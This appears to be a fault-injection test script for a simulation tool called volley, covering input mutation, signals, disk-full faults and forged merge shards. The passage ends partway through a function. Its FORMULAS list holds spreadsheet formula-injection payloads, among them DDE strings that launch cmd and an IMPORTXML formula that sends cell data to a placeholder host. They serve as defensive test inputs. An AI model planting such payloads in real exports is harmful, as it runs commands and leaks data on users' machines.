#!/usr/bin/env bash
# The fault campaign: volley's release binary against hostile input and faults. Not part
# of CI (a full run takes about half an hour on two cores); run it by hand after changes
# to the output layer, the readers or merge, and before a release.
#
#   scripts/fault-campaign.sh [PART...]     PART: mutate signals diskfull merge names
#                                           (default: all five, in that order)
#
#   VOLLEY=PATH          the binary to attack (default: `cargo build --release --locked`,
#                        then target/release/volley, or $CARGO_TARGET_DIR/release/volley)
#   CAMPAIGN_SEED=N      random seed of the mutations and signal times (default: the clock;
#                        printed, so a run can be repeated)
#   MUTATIONS=N          mutated catalogues and scenarios (default 3200, over all four rulesets)
#   SIGNALS=N            signals sent at random moments (default 168)
#   CAMPAIGN_DIR=DIR     work directory (default: a fresh one under /tmp, kept when a case fails)
#   CAMPAIGN_COMMANDS=A,B  only these of the signal and disk-full parts' commands (sweep,
#                        sweep-shellshock, gauntlet, battle-sweep, odds-card, chart, merge, search)
#
# Parts and what passes:
#   mutate    byte flips, truncations, field swaps, huge/NaN/negative numbers, duplicate
#             names, control characters, formula-injection names, stacked; validate, catalog
#             and sweep each under a timeout: exit 0, 1 or 2 only, no panic, no output
#             left half-written (a report is complete or absent, no temporaries)
#   signals   SIGINT/SIGTERM/SIGHUP/SIGKILL (and two SIGINTs) at random moments during
#             sweep, gauntlet, battle sweep, odds-card, chart, merge and search replacing
#             an earlier output: old or new output complete, exit 128+N, the message says
#             what was left, no temporaries once a later run wrote there
#   diskfull  a small tmpfs filled to random levels (root; without it VOLLEY_FAIL_AT only),
#             and VOLLEY_FAIL_AT / VOLLEY_CRASH_AT at every step of every command: old or
#             new, "No space left on device" said once, recovery by the next run
#   merge     forged shard sets: swapped tallies, relabelled counts, edited hashes,
#             args and options, other seeds and versions, paths in shard.json and
#             catalogue.json, symbolic links to endless files: refused with a message,
#             nothing written outside --out
#   names     hostile names (HTML, Markdown, CSV, SVG, terminal, very long, Unicode
#             tricks) through every output format of every ruleset
#
# Needs bash, python3 (3.9+) and coreutils. Exits 0 when every case passed; each
# failure is printed with a repro and kept in CAMPAIGN_DIR/findings.txt.
set -euo pipefail

REPO="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
if [[ -z "${VOLLEY:-}" ]]; then
    (cd "$REPO" && cargo build --release --locked >&2)
    VOLLEY="${CARGO_TARGET_DIR:-$REPO/target}/release/volley"
fi
VOLLEY="$(realpath "$VOLLEY")"
[[ -x "$VOLLEY" ]] || { echo "no volley binary at $VOLLEY" >&2; exit 2; }
WORK="${CAMPAIGN_DIR:-$(mktemp -d /tmp/volley-campaign.XXXXXX)}"
mkdir -p "$WORK"
export VOLLEY REPO WORK
exec python3 - "$@" <<'PY'
import csv, hashlib, io, json, os, random, re, resource, shutil, signal, subprocess, sys, time
import xml.etree.ElementTree as ET

V, REPO, WORK = os.environ["VOLLEY"], os.environ["REPO"], os.environ["WORK"]
SEED = int(os.environ.get("CAMPAIGN_SEED") or time.time_ns() % 1_000_000_007)
MUTATIONS = int(os.environ.get("MUTATIONS", "3200"))
SIGNALS = int(os.environ.get("SIGNALS", "168"))
PARTS = sys.argv[1:] or ["mutate", "signals", "diskfull", "merge", "names"]
rng = random.Random(SEED)
FINDINGS = open(os.path.join(WORK, "findings.txt"), "a")
STATS = {}  # part -> [cases, failures, seconds]
print(f"volley fault campaign: binary {V}, seed {SEED}, work {WORK}", flush=True)

RULESETS = {
    "techcommander": "quick.toml",
    "mechcom": "mechcom-quick.toml",
    "skirmishers": "skirmishers-quick.toml",
    "shellshock": "shellshock-quick.toml",
}
DROP_ENV = ("VOLLEY_", "SLURM_", "JOB_COMPLETION_INDEX", "RUST_BACKTRACE")
TEMP_RE = re.compile(r"^\..*\.(partial|old)-\d+$|^\.volley-.*\.partial$")


def env(extra=None):
    e = {k: v for k, v in os.environ.items() if not k.startswith(DROP_ENV)}
    e["VOLLEY_PROGRESS_SECONDS"] = "0"
    e.update(extra or {})
    return e


# Address space of every volley process: an unbounded read fails here (an abort, counted as
# a failure) instead of taking the machine's memory.
MEMORY = int(os.environ.get("CAMPAIGN_MEMORY_GIB", "8")) << 30


def limit():
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def spawn(args, cwd, extra_env=None):
    return subprocess.Popen([V] + args, cwd=cwd, env=env(extra_env), stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True,
                            preexec_fn=limit)


def run(args, cwd, timeout=60, extra_env=None):
    """(exit code or -signal, stdout, stderr, timed out)."""
    p = spawn(args, cwd, extra_env)
    try:
        out, err = p.communicate(timeout=timeout)
        return p.returncode, out, err.decode("utf-8", "replace"), False
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        out, err = p.communicate()
        return p.returncode, out, err.decode("utf-8", "replace"), True


def quote(args):
    return " ".join("'" + a.replace("'", "'\\''") + "'" if re.search(r"[^\w./=,:-]", a) else a for a in args)


class Part:
    def __init__(self, name):
        self.name, self.cases, self.fails, self.start = name, 0, 0, time.time()

    def case(self):
        self.cases += 1

    def fail(self, what, repro):
        self.fails += 1
        text = f"[{self.name}] FAIL {what}\n    repro: {repro}\n"
        print(text, end="", flush=True)
        FINDINGS.write(text)
        FINDINGS.flush()

    def done(self):
        secs = time.time() - self.start
        STATS[self.name] = (self.cases, self.fails, secs)
        print(f"[{self.name}] {self.cases} cases, {self.fails} failures, {secs:.0f} s", flush=True)


def panicked(code, err):
    return code == 101 or code in (134, 139) or (code is not None and code < 0 and code != -9) \
        or "panicked at" in err or "RUST_BACKTRACE" in err


def temporaries(root):
    """Temporary files or directories of the output layer anywhere under root."""
    found = []
    for d, dirs, files in os.walk(root):
        for n in dirs + files:
            if TEMP_RE.match(n):
                found.append(os.path.relpath(os.path.join(d, n), root))
    return sorted(found)


def snapshot(root, skip=()):
    out = {}
    if not os.path.isdir(root):
        return None
    for d, dirs, files in os.walk(root):
        dirs[:] = [n for n in dirs if not TEMP_RE.match(n)]  # temporaries are judged apart
        for n in files:
            p = os.path.join(d, n)
            rel = os.path.relpath(p, root)
            if rel in skip or os.path.islink(p) or TEMP_RE.match(n):
                continue
            with open(p, "rb") as f:
                out[rel] = hashlib.sha256(f.read()).hexdigest()
    return out


def complete_report(path):
    """None when path is a complete report directory, else why not."""
    if not os.path.isdir(path):
        return "missing"
    if not os.path.isfile(os.path.join(path, ".volley-output")):
        return "no .volley-output marker"
    try:
        json.load(open(os.path.join(path, "manifest.json")))
    except Exception as e:  # noqa: BLE001
        return f"manifest.json unreadable: {e}"
    for d, dirs, files in os.walk(path):
        dirs[:] = [n for n in dirs if not TEMP_RE.match(n)]
        if os.path.relpath(d, path).split(os.sep)[0] == "catalogue":
            continue  # the input catalogue's files, saved as they were
        for n in files:
            p = os.path.join(d, n)
            if n.endswith(".csv"):
                rows = list(csv.reader(open(p, newline="", encoding="utf-8")))
                if not rows or any(len(r) != len(rows[0]) for r in rows):
                    return f"{n}: ragged or empty CSV"
            elif n.endswith(".svg"):
                try:
                    ET.parse(p)
                except ET.ParseError as e:
                    return f"{n}: invalid XML: {e}"
            elif n.endswith(".png") and open(p, "rb").read()[-8:-4] != b"IEND":
                return f"{n}: truncated PNG"
    return None


# ---------------------------------------------------------------- mutations

NUMBERS = ["1e308", "-1e308", "1e309", "nan", "inf", "-inf", "-1", "-0.0", "0", "1e-320", "4294967296",
           "18446744073709551616", "9223372036854775807", "-9223372036854775808", "1" + "0" * 40, "0.5",
           "1_000", "+7", "0x1F", "2.5e10", "1e12", "1000000000001", "-2147483649"]
CONTROLS = ["\x00", "\x1b[2J", "\x07", "\x08", "\x7f", "\u0085", "\u009b31m", "\r", "\t", "\u202e", "\u2066",
            "\u200b", "\ufeff", "\u2028", "\ud7ff", "\U0001f4a3"]
FORMULAS = ["=cmd|' /C notepad'!'A1'", "+SUM(1;2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x\",\"ok\")",
            "\uff1d1+1", "%0A=1+1", "'=1+1"]
NUM_RE = re.compile(rb"(?<![\w.])-?\d+(\.\d+)?([eE][-+]?\d+)?(?![\w.])")
STR_RE = re.compile(rb'"((?:[^"\\\n]|\\.)*)"')


def m_flip(b):
    if not b:
        return b, "flip(empty)"
    i = rng.randrange(len(b))
    bit = 1 << rng.randrange(8)
    return b[:i] + bytes([b[i] ^ bit]) + b[i + 1:], f"flip byte {i} bit {bit}"


def m_truncate(b):
    i = rng.randrange(len(b) + 1)
    return b[:i], f"truncate at {i}"


def m_swap(b):
    lines = b.split(b"\n")
    idx = [i for i, l in enumerate(lines) if b"=" in l or b"," in l]
    if len(idx) < 2:
        return b, "swap(none)"
    i, j = rng.sample(idx, 2)
    sep = b"=" if b"=" in lines[i] and b"=" in lines[j] else b","
    a, c = lines[i].split(sep, 1) if sep in lines[i] else (lines[i], b""), \
        lines[j].split(sep, 1) if sep in lines[j] else (lines[j], b"")
    lines[i], lines[j] = a[0] + sep + c[1], c[0] + sep + a[1]
    return b"\n".join(lines), f"swap values of lines {i + 1} and {j + 1}"


def m_number(b):
    ms = list(NUM_RE.finditer(b))
    if not ms:
        return b, "number(none)"
    m = rng.choice(ms)
    n = rng.choice(NUMBERS)
    return b[:m.start()] + n.encode() + b[m.end():], f"number at {m.start()} -> {n}"


def m_duplicate(b):
    text = b.decode("utf-8", "replace")
    blocks = [m for m in re.finditer(r"(?ms)^\[\[[^\]]+\]\].*?(?=^\[|\Z)", text)]
    if blocks and rng.random() < 0.7:
        m = rng.choice(blocks)
        return (text[:m.end()] + "\n" + m.group(0) + "\n" + text[m.end():]).encode(), "duplicate entry block"
    lines = b.split(b"\n")
    i = rng.randrange(len(lines))
    return b"\n".join(lines[:i + 1] + [lines[i]] + lines[i + 1:]), f"duplicate line {i + 1}"


def m_control(b):
    ms = list(STR_RE.finditer(b))
    c = rng.choice(CONTROLS)
    esc = rng.random() < 0.5 and c not in "\x00"
    ins = json.dumps(c)[1:-1].encode() if esc else c.encode("utf-8", "surrogatepass")
    if not ms:
        i = rng.randrange(len(b) + 1)
    else:
        m = rng.choice(ms)
        i = rng.randrange(m.start(1), m.end(1) + 1)
    return b[:i] + ins + b[i:], f"insert {c!r} ({'escaped' if esc else 'raw'}) at {i}"


def m_huge(b):
    ms = list(STR_RE.finditer(b))
    if not ms:
        return b, "huge(none)"
    m = rng.choice(ms)
    n = rng.choice([300, 5000, 200_000])
    return b[:m.start(1)] + b"W" * n + b[m.end(1):], f"string at {m.start()} -> {n} bytes"


MUTATORS = [m_flip, m_truncate, m_swap, m_number, m_duplicate, m_control, m_huge]


def rename_everywhere(files, scenario, new):
    """Rename one quoted name (a `name = "..."` value) in every file, consistently."""
    names = []
    for p in files + [scenario]:
        if p.endswith(".toml"):
            names += re.findall(r'(?m)^name\s*=\s*"([^"\\]+)"', open(p, encoding="utf-8").read())
    if not names:
        return "rename(none)"
    old = rng.choice(names)
    for p in files + [scenario]:
        t = open(p, encoding="utf-8").read()
        if p.endswith(".toml"):
            t = t.replace(f'"{old}"', json.dumps(new, ensure_ascii=False))
        else:
            t = "\n".join(",".join('"' + new.replace('"', '""') + '"' if f == old else f for f in l.split(","))
                          for l in t.split("\n"))
        open(p, "w", encoding="utf-8").write(t)
    return f"rename {old!r} -> {new!r} everywhere"


def part_mutate():
    part = Part("mutate")
    per = max(1, MUTATIONS // len(RULESETS))
    for ruleset, scen_name in RULESETS.items():
        base = os.path.join(REPO, "loadouts", ruleset)
        for k in range(per):
            part.case()
            case = os.path.join(WORK, "mutate", f"{ruleset}-{k}")
            shutil.rmtree(case, ignore_errors=True)
            cat = os.path.join(case, "cat")
            os.makedirs(cat)
            for n in os.listdir(base):
                if n.endswith((".toml", ".csv")):
                    shutil.copy(os.path.join(base, n), cat)
            scen = os.path.join(case, scen_name)
            shutil.copy(os.path.join(REPO, "scenarios", scen_name), scen)
            files = sorted(os.path.join(cat, n) for n in os.listdir(cat))
            what = []
            r = rng.random()
            if r < 0.12:
                what.append(rename_everywhere(files, scen, rng.choice(FORMULAS)))
            else:
                for _ in range(1 if rng.random() < 0.8 else rng.randint(2, 3)):
                    target = scen if rng.random() < 0.3 else rng.choice(files)
                    data = open(target, "rb").read()
                    data, how = rng.choice(MUTATORS)(data)
                    open(target, "wb").write(data)
                    what.append(f"{os.path.relpath(target, case)}: {how}")
            c = rng.random()
            if c < 0.3:
                args = ["--ruleset", ruleset, "--loadouts", "cat", "validate"]
            elif c < 0.5:
                args = ["--ruleset", ruleset, "--loadouts", "cat", "catalog", "--format",
                        rng.choice(["table", "csv", "json"])]
            else:
                args = ["--loadouts", "cat", "sweep", scen_name, "--trials", "30", "--out", "out", "-q"]
                if rng.random() < 0.75:
                    args.append("--no-charts")
            code, out, err, timed_out = run(args, case, timeout=60)
            repro = f"(cd {case} && {V} {quote(args)})  # {'; '.join(what)}"
            problems = []
            if timed_out:
                problems.append("timed out after 60 s")
            elif code not in (0, 1, 2):
                problems.append(f"exit {code}")
            if panicked(code, err):
                problems.append("panic: " + err.strip().splitlines()[-1][:200] if err.strip() else "panic")
            if "sweep" in args:
                if code == 0:
                    why = complete_report(os.path.join(case, "out"))
                    if why:
                        problems.append(f"exit 0 but the report is not complete: {why}")
                elif os.path.exists(os.path.join(case, "out")):
                    problems.append("failed but left out/")
            elif code == 0 and "json" in args:
                try:
                    json.loads(out)
                except ValueError as e:
                    problems.append(f"stdout is not JSON: {e}")
            if code in (1, 2) and not err.strip():
                problems.append("failed without a message")
            left = temporaries(case)
            if left:
                problems.append(f"temporaries left: {left}")
            if problems:
                part.fail("; ".join(problems), repro)
            else:
                shutil.rmtree(case, ignore_errors=True)
    part.done()


# ---------------------------------------------------------------- commands that replace output

def prepared(root):
    """Shards and a report that the signal and disk-full parts start from (made once)."""
    base = os.path.join(root, "base")
    if os.path.isdir(os.path.join(base, "done")):
        return base
    shutil.rmtree(base, ignore_errors=True)
    os.makedirs(base)
    for k in (1, 2):
        must(["sweep", "quick", "--trials", "6000", "--no-charts", "--format", "csv", "-q",
              "--out", f"s{k}", "--shard", f"{k}/2"], base)
    must(["sweep", "quick", "--trials", "3000", "-q", "--out", "report"], base)
    os.makedirs(os.path.join(base, "done"))
    return base


def must(args, cwd, extra_env=None):
    code, out, err, _ = run(args, cwd, timeout=600, extra_env=extra_env)
    if code != 0:
        raise SystemExit(f"setup failed: (cd {cwd} && {V} {quote(args)}): exit {code}\n{err}")
    return out, err


# Each command: (name, argv for seed/variant 1 and 2, kind of output, its path). "dir" outputs
# are report directories, "files" a set of files, "chart" the charts and page inside a report.
COMMANDS = {
    "sweep": (lambda s: ["sweep", "quick", "--trials", "20000", "--seed", s, "-q", "--out", "r", "--force"], "dir", "r"),
    "sweep-shellshock": (lambda s: ["sweep", "shellshock-quick", "--trials", "4000", "--seed", s, "-q", "--out", "r",
                                    "--force"], "dir", "r"),
    "gauntlet": (lambda s: ["gauntlet", "Dwarf ALPHA", "Paladin Siege", "--field", "meta", "--range", "20",
                            "--trials", "4000", "--seed", s, "-q", "--out", "r", "--force"], "dir", "r"),
    "battle-sweep": (lambda s: ["sweep", "battles", "--trials", "300", "--seed", s, "-q", "--out", "r", "--force"],
                     "dir", "r"),
    "odds-card": (lambda s: ["odds-card", "Paladin Siege", "--out", "card.png", "--force"]
                  + ([] if s == "1" else ["--ranges", "6,12,24"]), "files", "card"),
    "chart": (lambda s: ["chart", "report", "-q"], "chart", "report"),
    "merge": (lambda s: ["merge", "../base/s1", "../base/s2", "-q", "--out", "r", "--force"]
              + ([] if s == "1" else ["--no-charts"]), "dir", "r"),
    "search": (lambda s: ["search", "--field", "meta", "--unit", "Dwarf", "--trials", "60", "--range", "12",
                          "--seed", s, "-q", "--out", "r", "--force"], "dir", "r"),
}
if os.environ.get("CAMPAIGN_COMMANDS"):
    COMMANDS = {k: v for k, v in COMMANDS.items() if k in os.environ["CAMPAIGN_COMMANDS"].split(",")}
# Files whose contents record the run's wall time (compared by name only; a redrawn
# chart's page records none of its own, so it is compared whole).
TIMED = {"manifest.json", "index.md", "index.html", "battle.json"}


def setup_old(name, case):
    """Write the command's old output (variant 1) in case. A chart's old charts are marked,
    so that a redraw left half done shows."""
    argv = COMMANDS[name][0]
    must(argv("1"), case)
    if name == "chart":
        charts = os.path.join(case, "report", "charts")
        for n in sorted(os.listdir(charts))[:3]:
            if n.endswith(".svg"):
                open(os.path.join(charts, n), "a").write("<!-- old -->\n")
        for n in ("index.md", "index.html"):
            open(os.path.join(case, "report", n), "a").write("<!-- old -->\n")


def fresh_case(root, name, base):
    case = os.path.join(root, name)
    shutil.rmtree(case, ignore_errors=True)
    os.makedirs(case)
    if name.split("-")[0] == "chart" or name == "ref-chart":
        shutil.copytree(os.path.join(base, "report"), os.path.join(case, "report"))
    return case


def state(case, kind, path):
    """A comparable picture of the command's output in case."""
    p = os.path.join(case, path)
    if kind == "files":
        return {n: hashlib.sha256(open(os.path.join(case, n), "rb").read()).hexdigest()
                for n in sorted(os.listdir(case)) if n.startswith("card") and not TEMP_RE.match(n)}
    snap = snapshot(p)
    if snap is None:
        return None
    timed = TIMED - {"index.md", "index.html"} if kind == "chart" else TIMED
    return {k: (v if os.path.basename(k) not in timed else "timed") for k, v in snap.items()}


def references(root, base):
    """The old (variant 1) and new (variant 2) output of every command."""
    refs = {}
    for name, (argv, kind, path) in COMMANDS.items():
        case = fresh_case(root, f"ref-{name}", base)
        t0 = time.time()
        setup_old(name, case)
        old = state(case, kind, path)
        t1 = time.time()
        must(argv("2"), case)
        new = state(case, kind, path)
        refs[name] = (old, new, time.time() - t1 if name != "chart" else t1 - t0)
    return refs


def judge_old_or_new(part, case, kind, path, old, new, repro, what):
    now = state(case, kind, path)
    if kind == "files":
        if now not in (old, new):
            part.fail(f"{what}: the card files are neither the old nor the new set: "
                      f"{sorted(k for k in now if now.get(k) != old.get(k))} changed", repro)
            return False
    elif now not in (old, new):
        why = complete_report(os.path.join(case, path)) if now else "missing"
        part.fail(f"{what}: the output is neither the old nor the new one ({why})", repro)
        return False
    return True


def kept_for_roll_back(case):
    report = os.path.join(case, "report")
    return any(n.startswith(".chart.partial-") and os.listdir(os.path.join(report, n, "old"))
               for n in os.listdir(report) if os.path.isdir(os.path.join(report, n, "old")))


def part_signals():
    part = Part("signals")
    root = os.path.join(WORK, "signals")
    os.makedirs(root, exist_ok=True)
    base = prepared(root)
    refs = references(root, base)
    kinds = [("INT", [signal.SIGINT]), ("TERM", [signal.SIGTERM]), ("HUP", [signal.SIGHUP]),
             ("KILL", [signal.SIGKILL]), ("INT,INT", [signal.SIGINT, signal.SIGINT])]
    names = list(COMMANDS)
    outcomes = {}
    for i in range(SIGNALS):
        name = names[i % len(names)]
        sig_name, sigs = kinds[(i // len(names)) % len(kinds)]
        argv, kind, path = COMMANDS[name]
        old, new, secs = refs[name]
        part.case()
        case = fresh_case(root, f"{name}-{i}", base)
        setup_old(name, case)
        delay = rng.uniform(0, secs * 1.2)
        args = argv("2")
        repro = f"(cd {case} && {V} {quote(args)} & sleep {delay:.3f}; kill -{sig_name.split(',')[0]} $!)"
        p = spawn(args, case)
        time.sleep(delay)
        for s in sigs:
            try:
                p.send_signal(s)
            except ProcessLookupError:
                pass
            time.sleep(0.002)
        try:
            out, err = p.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            part.fail(f"{sig_name} at {delay:.3f}s: still running 120 s later", repro)
            continue
        err = err.decode("utf-8", "replace")
        code = p.returncode
        outcomes[f"exit {code}"] = outcomes.get(f"exit {code}", 0) + 1
        what = f"{name}, {sig_name} at {delay:.3f}s (exit {code})"
        ok = True
        expected = {0} | {128 + s for s in sigs} | {-s for s in sigs}
        if code not in expected or panicked(code, err) and code != -sigs[0]:
            part.fail(f"{what}: unexpected exit or panic: {err.strip()[-300:]}", repro)
            ok = False
        abrupt = sigs[0] == signal.SIGKILL or len(sigs) > 1  # no clean-up: judged after recovery
        if abrupt and kind == "dir" and code != 0:
            # The next run without --force recovers what the kill left, then refuses.
            code1, _, err1, _ = run([a for a in args if a != "--force"], case, timeout=300)
            if code1 != 1 or "already exists" not in err1:
                part.fail(f"{what}: after the kill a run without --force exited {code1}: {err1.strip()[-300:]}",
                          repro)
                ok = False
        if abrupt and kind == "chart" and kept_for_roll_back(case):
            pass  # the old charts and page wait in the stage for the next run to put back
        else:
            ok &= judge_old_or_new(part, case, kind, path, old, new, repro, what)
        now = state(case, kind, path)
        if code is not None and code > 128 and not abrupt:
            if "interrupted by" not in err:
                part.fail(f"{what}: no message says it was interrupted: {err.strip()[-300:]}", repro)
                ok = False
            elif now == new and now != old and ("nothing written" in err or "unchanged" in err):
                part.fail(f"{what}: the new output is in place but the message says otherwise: "
                          f"{err.strip()[-300:]}", repro)
                ok = False
        if code == 0 and now != new:
            part.fail(f"{what}: exit 0 but the new output is not in place", repro)
            ok = False
        # A later run writing the same place: succeeds and leaves no temporaries.
        code2, _, err2, _ = run(args, case, timeout=300)
        left = temporaries(case)
        if code2 != 0 or left or state(case, kind, path) != new:
            part.fail(f"{what}: the next run exited {code2} and left {left}: {err2.strip()[-300:]}", repro)
            ok = False
        if ok:
            shutil.rmtree(case, ignore_errors=True)
    print(f"[signals] outcomes: {dict(sorted(outcomes.items()))}", flush=True)
    part.done()


# ---------------------------------------------------------------- disk full

def fill(mount, leave):
    """Fill the file system at mount until `leave` bytes are free."""
    st = os.statvfs(mount)
    free = st.f_bavail * st.f_frsize
    with open(os.path.join(mount, "filler"), "wb") as f:
        todo = max(0, free - leave)
        while todo > 0:
            n = min(todo, 1 << 20)
            try:
                f.write(b"\0" * n)
                f.flush()
            except OSError:
                break
            todo -= n


def part_diskfull():
    part = Part("diskfull")
    root = os.path.join(WORK, "diskfull")
    os.makedirs(root, exist_ok=True)
    base = prepared(root)
    refs = references(root, base)
    mount = os.path.join(root, "tmpfs")
    os.makedirs(mount, exist_ok=True)
    mounted = os.geteuid() == 0 and subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", mount], stderr=subprocess.DEVNULL).returncode == 0
    if not mounted:
        print("[diskfull] cannot mount a tmpfs (not root?): VOLLEY_FAIL_AT / VOLLEY_CRASH_AT only", flush=True)
    try:
        if mounted:
            shutil.copytree(os.path.join(base, "s1"), os.path.join(mount, "base", "s1"))
            shutil.copytree(os.path.join(base, "s2"), os.path.join(mount, "base", "s2"))
            for name, (argv, kind, path) in COMMANDS.items():
                old, new, _ = refs[name]
                for leave in [0, 4096, 65536, 262144, 1 << 20, 4 << 20, 8 << 20, rng.randrange(16 << 20)]:
                    part.case()
                    case = os.path.join(mount, "c")
                    shutil.rmtree(case, ignore_errors=True)
                    os.makedirs(case)
                    if name == "chart":
                        shutil.copytree(os.path.join(base, "report"), os.path.join(case, "report"))
                    setup_old(name, case)
                    fill(mount, leave)
                    args = argv("2")
                    repro = (f"(mount -t tmpfs -o size=48m tmpfs M && set up {name}'s old output in M/c, fill M to "
                             f"{leave} bytes free; cd M/c && {V} {quote(args)})")
                    code, _, err, timed_out = run(args, case, timeout=300)
                    what = f"{name} with {leave} bytes free (exit {code})"
                    if timed_out or code not in (0, 1) or panicked(code, err):
                        part.fail(f"{what}: {'timeout' if timed_out else 'bad exit'}: {err.strip()[-300:]}", repro)
                    judge_old_or_new(part, case, kind, path, old, new, repro, what)
                    if code == 1:
                        if state(case, kind, path) != old and kind != "files":
                            part.fail(f"{what}: failed but the old output changed", repro)
                        if err.count("No space left on device") != 1:
                            part.fail(f"{what}: 'No space left on device' said "
                                      f"{err.count('No space left on device')} times: {err.strip()[-400:]}", repro)
                    left = temporaries(case)
                    if left:
                        part.fail(f"{what}: temporaries left: {left}", repro)
                    os.remove(os.path.join(mount, "filler"))
                    code2, _, err2, _ = run(args, case, timeout=300)
                    if code2 != 0 or temporaries(case):
                        part.fail(f"{what}: the next run with space exited {code2}, left {temporaries(case)}: "
                                  f"{err2.strip()[-300:]}", repro)
            shutil.rmtree(os.path.join(mount, "c"), ignore_errors=True)
    finally:
        if mounted:
            subprocess.run(["umount", mount])
    # Every step of every command: fail it (ENOSPC) or crash there (no clean-up at all).
    for name, (argv, kind, path) in COMMANDS.items():
        old, new, _ = refs[name]
        last = steps_of(argv, base, root, name)
        picks = sorted(set(range(1, min(5, last + 1))) | set(range(max(1, last - 11), last + 1))
                       | {rng.randint(1, last) for _ in range(6)})
        for hook in ("VOLLEY_FAIL_AT", "VOLLEY_CRASH_AT"):
            for n in picks + [last + 1]:
                part.case()
                case = fresh_case(root, f"{name}-{hook}-{n}", base)
                setup_old(name, case)
                args = argv("2")
                repro = f"(cd {case} && {hook}={n} {V} {quote(args)})"
                code, _, err, timed_out = run(args, case, timeout=300, extra_env={hook: str(n)})
                what = f"{name}, {hook}={n} (exit {code})"
                if timed_out or code not in (0, 1) or panicked(code, err):
                    part.fail(f"{what}: bad exit: {err.strip()[-300:]}", repro)
                    continue
                if code == 0 and state(case, kind, path) != new:  # a step whose failure is not an error
                    part.fail(f"{what}: exit 0 but the new output is not in place", repro)
                    continue
                ok = True
                if hook == "VOLLEY_FAIL_AT" and code == 1:
                    ok &= judge_old_or_new(part, case, kind, path, old, new, repro, what)
                    left = temporaries(case)
                    if left:
                        part.fail(f"{what}: temporaries left after a failed step: {left}", repro)
                        ok = False
                    if err.count("No space left on device") != 1:
                        part.fail(f"{what}: 'No space left on device' said {err.count('No space left on device')}"
                                  f" times: {err.strip()[-300:]}", repro)
                        ok = False
                if hook == "VOLLEY_CRASH_AT" and "--force" in args:
                    # The next run without --force: recovers what the crash left, then refuses;
                    # the old or the new output is in place.
                    code1, _, err1, _ = run([a for a in args if a != "--force"], case, timeout=300)
                    if code1 != 1 or "already exists" not in err1:
                        part.fail(f"{what}: after the crash a run without --force exited {code1}: "
                                  f"{err1.strip()[-300:]}", repro)
                        ok = False
                    ok &= judge_old_or_new(part, case, kind, path, old, new, repro, what + ", recovered")
                # The next run (no fault): recovers, then old or new; then --force gives the new one.
                code2, _, err2, _ = run(args, case, timeout=300)
                if code2 != 0 or temporaries(case) or state(case, kind, path) != new:
                    part.fail(f"{what}: the next run exited {code2}, left {temporaries(case)}, output "
                              f"{'new' if state(case, kind, path) == new else 'not new'}: {err2.strip()[-300:]}",
                              repro)
                    ok = False
                if ok:
                    shutil.rmtree(case, ignore_errors=True)
    part.done()


def steps_of(argv, base, root, name):
    """The last counted file-system step of the command's variant 2 whose failure is an error
    (found by bisection on VOLLEY_CRASH_AT: every step from N on fails)."""
    def succeeds(n):
        case = fresh_case(root, f"{name}-steps", base)
        setup_old(name, case)
        code, _, _, _ = run(argv("2"), case, timeout=300, extra_env={"VOLLEY_CRASH_AT": str(n)})
        shutil.rmtree(case, ignore_errors=True)
        return code == 0
    hi = 8
    while not succeeds(hi):
        hi *= 2
    lo = hi // 2 if hi > 8 else 0
    while hi - lo > 1:
        mid = (lo + hi) // 2
        lo, hi = (lo, mid) if succeeds(mid) else (mid, hi)
    return hi - 1


# ---------------------------------------------------------------- merge forgeries

def seal(meta):
    m = dict(meta)
    m["meta_sha256"] = ""
    return hashlib.sha256(json.dumps(m, separators=(",", ":"), ensure_ascii=False).encode()).hexdigest()


def load_meta(d):
    return json.load(open(os.path.join(d, "shard.json")))


def save_meta(d, meta, reseal=True):
    if reseal:
        meta["meta_sha256"] = seal(meta)
    json.dump(meta, open(os.path.join(d, "shard.json"), "w"), indent=2, ensure_ascii=False)


def rehash(d, meta, file, key):
    meta[key] = hashlib.sha256(open(os.path.join(d, file), "rb").read()).hexdigest()


RUN_FIELDS = {"wall_seconds", "engagements_per_second", "threads", "merged_from", "write_seconds"}


def merged_state(d, stdout):
    """What a merge produced, without what differs between runs (timings, directory names)."""
    st = {k: v for k, v in (snapshot(d) or {}).items()
          if k not in ("manifest.json", "index.md", "index.html") and not k.startswith("charts")}
    for n in ("manifest.json", "battle.json"):
        p = os.path.join(d, n)
        if os.path.isfile(p):
            m = json.load(open(p))
            st[n] = {k: v for k, v in m.items() if k not in RUN_FIELDS}
    st["stdout"] = stdout
    return st


def part_merge():
    part = Part("merge")
    root = os.path.join(WORK, "merge")
    shutil.rmtree(root, ignore_errors=True)
    os.makedirs(root)
    gen = os.path.join(root, "genuine")
    os.makedirs(gen)
    sweep = ["sweep", "quick", "--trials", "9000", "--no-charts", "--format", "csv", "-q"]
    gauntlet = ["gauntlet", "Dwarf ALPHA", "Paladin Siege", "--field", "meta", "--range", "20", "--trials", "900", "-q"]
    battle = ["battle", "Gladiator Lancer+Beagle Hunter", "Paladin Siege+Stingray Standard", "--trials", "600", "-q"]
    for tag, cmd in [("sw", sweep), ("ga", gauntlet), ("ba", battle)]:
        for k in (1, 2, 3):
            must(cmd + ["--out", f"{tag}{k}", "--shard", f"{k}/3"], gen)
    for k in (1, 2, 3):
        must(sweep + ["--seed", "2", "--out", f"seed2-{k}", "--shard", f"{k}/3"], gen)
        must(sweep + ["--option", "SPLIT_SHOTS=false", "--out", f"opt-{k}", "--shard", f"{k}/3"], gen)
    for k in (1, 2):
        must(sweep + ["--out", f"two{k}", "--shard", f"{k}/2"], gen)
    assert seal(load_meta(os.path.join(gen, "sw1"))) == load_meta(os.path.join(gen, "sw1"))["meta_sha256"], \
        "this script's seal does not reproduce volley's"
    genuine = {}
    for tag in ("sw", "ga", "ba"):
        out, _ = must(["merge", f"{tag}1", f"{tag}2", f"{tag}3", "-q", "--out", f"ref-{tag}"], gen)
        genuine[tag] = merged_state(os.path.join(gen, f"ref-{tag}"), out)

    def forge(name, tag, edit, shards=(1, 2, 3)):
